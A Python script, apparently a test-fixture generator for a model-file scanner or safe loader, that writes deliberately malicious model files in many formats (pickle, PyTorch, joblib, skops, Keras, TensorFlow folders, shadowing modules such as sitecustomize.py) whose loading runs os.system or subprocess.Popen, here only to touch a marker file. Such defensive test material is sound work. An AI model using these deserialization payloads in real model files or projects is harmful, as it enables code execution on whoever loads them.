"""Writes files that would run code when they are loaded, in every form that a model may come in: `make_malice.py FOLDER`.

Each would write FOLDER/pwned. FOLDER/malice.json names them: what is said of the ones that can say nothing else, and the package
that loads them.
"""

import io
import json
import os
import pathlib
import pickle
import sys
import tarfile
import zipfile

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"

FOLDER = pathlib.Path(sys.argv[1])
DEED = f"touch {FOLDER / 'pwned'}"
FILES = []


class Evil:
    def __reduce__(self):
        return os.system, (DEED,)


PICKLE = pickle.dumps(Evil())
OLD_PICKLE = pickle.dumps(Evil(), 0)
IS_PICKLE = "it is a pickle"


def write(name, content, says="", package="numpy"):
    (FOLDER / name).write_bytes(content)
    FILES.append({"file": name, "says": says, "package": package})


def zipped(**members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def tarred(name):
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(PICKLE)
        archive.addfile(info, io.BytesIO(PICKLE))
    return made.getvalue()


def pickles():
    """Bare ones, under the names of those that are pickles and of those that are not."""
    for ending in ("pkl", "pickle", "joblib"):
        write(f"bare.{ending}", PICKLE, IS_PICKLE, "joblib")
    write("old.pkl", OLD_PICKLE, IS_PICKLE, "joblib")
    for ending in ("pt", "pth"):
        write(f"bare.{ending}", PICKLE, IS_PICKLE, "torch")
    for ending, package in [("pt2", "torch"), ("torchscript", "torch"), ("keras", "keras"), ("skops", "skops"), ("ubj", "xgboost"), ("xgb", "xgboost"), ("lgb", "lightgbm"), ("npz", "numpy")]:
        write(f"bare.{ending}", PICKLE, package=package)


def archives():
    whole = {"m/data.pkl": PICKLE, "m/version": "3", "m/byteorder": "little"}
    script = {**whole, "m/constants.pkl": PICKLE, "m/code/__torch__.py": "import os"}
    exported = dict.fromkeys(["serialized_exported_program.json", "serialized_state_dict.pt", "serialized_constants.pt", "version"], PICKLE)
    package = {"m/models/model.json": "{}", "m/data/weights/model_weights_config.json": PICKLE, "m/archive_format": "pt2", "m/version": "0"}
    write("whole.pt", zipped(**whole), IS_PICKLE, "torch")
    write("whole.pth", zipped(**whole), IS_PICKLE, "torch")
    write("script.pt", zipped(**script), package="torch")
    write("script.torchscript", zipped(**script), package="torch")
    write("exported.pt2", zipped(**exported), package="torch")
    write("package.pt2", zipped(**package), package="torch")
    for ending, package in [("pt", "torch"), ("pt2", "torch"), ("keras", "keras"), ("skops", "skops"), ("joblib", "joblib"), ("npz", "numpy")]:
        write(f"zipped.{ending}", zipped(**{"data.pkl": PICKLE, "x.npy": PICKLE, "schema.json": PICKLE, "config.json": PICKLE, "metadata.json": PICKLE}), package=package)
        write(f"tarred.{ending}", tarred("pickle"), package=package)
    write("evil.tar.gz", tarred("model.pkl"))


def libraries():
    """What the libraries themselves write, or would read."""
    import joblib
    import numpy as np
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    joblib.dump(Evil(), FOLDER / "packed.joblib", compress=3)
    joblib.dump({"array": np.zeros(3), "evil": Evil()}, FOLDER / "arrays.joblib")
    FILES.extend({"file": name, "says": IS_PICKLE, "package": "joblib"} for name in ["packed.joblib", "arrays.joblib"])
    skops.io.dump(FunctionTransformer(np.linalg.norm), FOLDER / "function.skops")
    FILES.append({"file": "function.skops", "says": "it holds types that are not trusted", "package": "skops"})
    node = {"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "__id__": 1, "content": {}}
    call = {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "__id__": 2, "content": node}
    for name, schema in [("type.skops", node), ("object.skops", call)]:
        text = json.dumps({**schema, "protocol": 2, "_skops_version": "0.16.0"})
        write(name, zipped(**{"schema.json": text}), package="skops")


def networks():
    """Files of Keras whose layers hold code, or name what to import."""
    import keras

    keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2)]).save(FOLDER / "lambda.keras")
    FILES.append({"file": "lambda.keras", "says": "", "package": "keras"})
    system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "enable_unsafe_deserialization"}

    def layer(function, *arguments):
        config = {"name": "l", "function": function, "arguments": {"args": list(arguments)}}
        inbound = [{"args": list(arguments), "kwargs": {}}]
        return {"module": "keras.layers", "class_name": "Lambda", "config": config, "name": "l", "inbound_nodes": inbound}

    for name, layers in [("system.keras", [layer(system, DEED)]), ("unlocked.keras", [layer(unsafe), layer(system, DEED)]), ("direct.keras", [{**system, "inbound_nodes": [{"args": [DEED], "kwargs": {}}], "name": "d"}])]:
        config = {"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": layers, "input_layers": [], "output_layers": []}}
        metadata = {"keras_version": keras.__version__, "date_saved": ""}
        write(name, zipped(**{"config.json": json.dumps(config), "metadata.json": json.dumps(metadata), "model.weights.h5": PICKLE}), package="keras")


def folders():
    saved = FOLDER / "saved"
    (saved / "variables").mkdir(parents=True)
    for name in ["saved_model.pb", "variables/variables.index", "keras_metadata.pb"]:
        (saved / name).write_bytes(PICKLE)
    FILES.append({"file": "saved", "says": "", "package": "tensorflow"})
    beside = FOLDER / "beside"
    beside.mkdir()
    (beside / "model.skops").write_bytes(PICKLE)
    for name in ["numpy", "skops", "sklearn", "json", "fairlead", "sitecustomize", "__init__", "__main__"]:
        (beside / f"{name}.py").write_text(f"import os; os.system({DEED!r})")
    FILES.append({"file": "beside", "says": "", "package": "skops"})


for make in [pickles, archives, libraries, networks, folders]:
    make()
(FOLDER / "malice.json").write_text(json.dumps(FILES))
